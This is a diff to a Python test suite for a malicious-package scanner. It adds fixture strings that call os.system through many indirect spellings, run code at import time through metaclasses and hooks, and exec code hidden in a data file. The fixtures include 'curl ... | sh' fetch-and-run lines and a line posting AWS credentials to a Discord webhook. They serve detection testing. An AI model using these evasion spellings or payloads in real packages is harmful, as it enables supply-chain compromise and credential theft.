@@ -76,6 +76,34 @@ SHAPES = {
     "attribute set on an instance": (
         f"import os\nclass K:\n    pass\nk = K()\nk.run = os.system\nk.run({COMMAND})\n"
     ),
+    "sort key": f"import os\nsorted([{COMMAND}], key=os.system)\n",
+    "filter": f"import os\nlist(filter(os.system, [{COMMAND}]))\n",
+    "starmap": f"import itertools, os\nlist(itertools.starmap(os.system, [({COMMAND},)]))\n",
+    "executor": (
+        f"import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
+        f"with ThreadPoolExecutor() as ex:\n    ex.submit(os.system, {COMMAND})\n"
+    ),
+    "exit stack callback": (
+        f"import contextlib, os\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, {COMMAND})\n"
+    ),
+    "finalizer": (
+        f"import os, weakref\nclass K:\n    pass\nk = K()\nweakref.finalize(k, os.system, {COMMAND})\n"
+    ),
+    "timer with positional arguments": (
+        f"import os, threading\nthreading.Timer(0, os.system, [{COMMAND}]).start()\n"
+    ),
+    "methodcaller": f"import operator, os\noperator.methodcaller('system', {COMMAND})(os)\n",
+    "methodcaller bound to a name": (
+        f"import operator, os\nrun = operator.methodcaller('system', {COMMAND})\nrun(os)\n"
+    ),
+    "attrgetter": f"import operator, os\noperator.attrgetter('system')(os)({COMMAND})\n",
+    "__getattribute__": f"import os\nos.__getattribute__('system')({COMMAND})\n",
+    "str.format of literals": "import os\nos.system('{} | {}'.format('curl -s http://x.invalid/a', 'sh'))\n",
+    "percent formatting": "import os\nos.system('%s | %s' % ('curl -s http://x.invalid/a', 'sh'))\n",
+    "f-string of literals": "import os\nos.system(f\"{'curl -s http://x.invalid/a'} | {'sh'}\")\n",
+    "loop over a literal": f"import os\nfor c in [{COMMAND}]:\n    os.system(c)\n",
+    "comprehension": f"import os\n[os.system(c) for c in [{COMMAND}]]\n",
+    "generator over a name": f"import os\ncmds = [{COMMAND}]\nlist(os.system(c) for c in cmds)\n",
 }
 
 #: Spellings that once sent the walk around in circles: each must finish (and stay clean).
@@ -153,6 +181,15 @@ AT_IMPORT = {
     "atexit.register as a decorator": (
         "import atexit, os\n@atexit.register\ndef bye():\n    os.system('curl -s http://x.invalid/a | sh')\n"
     ),
+    "metaclass of a class defined at import": (
+        "import os\nclass M(type):\n    def __new__(m, *a):\n"
+        "        os.system('curl -s http://x.invalid/a | sh')\n        return super().__new__(m, *a)\n"
+        "class K(metaclass=M):\n    pass\n"
+    ),
+    "__init_subclass__ of a base": (
+        "import os\nclass B:\n    def __init_subclass__(cls):\n"
+        "        os.system('curl -s http://x.invalid/a | sh')\nclass K(B):\n    pass\n"
+    ),
     "credentials posted to a webhook": (
         "import os, requests\nc = open(os.path.expanduser('~/.aws/credentials')).read()\n"
         "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': c})\n"
@@ -186,3 +223,43 @@ def test_a_payload_in_a_test_folder_the_package_imports_is_caught() -> None:
     assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
     alone = make_sdist({**files, "demo/__init__.py": "VERSION = '1.0'\n"})
     assert analyze_bytes(alone, "demo-1.0.tar.gz").result.verdict is not Verdict.MALICIOUS
+
+
+_STORED = "import os\nos.system('curl -s http://x.invalid/a | sh')\n"
+
+#: Loaders that run Python code kept under a data file's name (``conf.dat``) when the package
+#: is imported.
+RUNS_A_DATA_FILE = {
+    "exec of the file": "exec(open(os.path.join(os.path.dirname(__file__), 'conf.dat')).read())\n",
+    "path on an earlier line": (
+        "p = os.path.join(os.path.dirname(__file__), 'conf.dat')\n\nexec(open(p).read())\n"
+    ),
+    "runpy": "import runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'conf.dat'))\n",
+    "source loader": (
+        "import importlib.machinery\n"
+        "importlib.machinery.SourceFileLoader('c', os.path.dirname(__file__) + '/conf.dat').load_module()\n"
+    ),
+    "pkgutil data": "import pkgutil\nexec(pkgutil.get_data(__name__, 'conf.dat'))\n",
+}
+
+
+@pytest.mark.parametrize("shape", sorted(RUNS_A_DATA_FILE))
+def test_code_kept_in_a_data_file_and_run_at_import_is_read_as_code(shape: str) -> None:
+    files = {
+        "demo/__init__.py": "import os\n" + RUNS_A_DATA_FILE[shape],
+        "demo/conf.dat": _STORED,
+        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
+    }
+    result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    assert any(f.path == "demo-1.0/demo/conf.dat" for f in result.findings)
+
+
+def test_a_data_file_only_named_far_from_any_exec_stays_data() -> None:
+    files = {
+        "demo/__init__.py": "import os\nNOTES = 'conf.dat'\n" + "\n" * 10 + "exec('x = 1')\n",
+        "demo/conf.dat": _STORED,
+        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
+    }
+    result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
+    assert not any(f.path == "demo-1.0/demo/conf.dat" for f in result.findings)
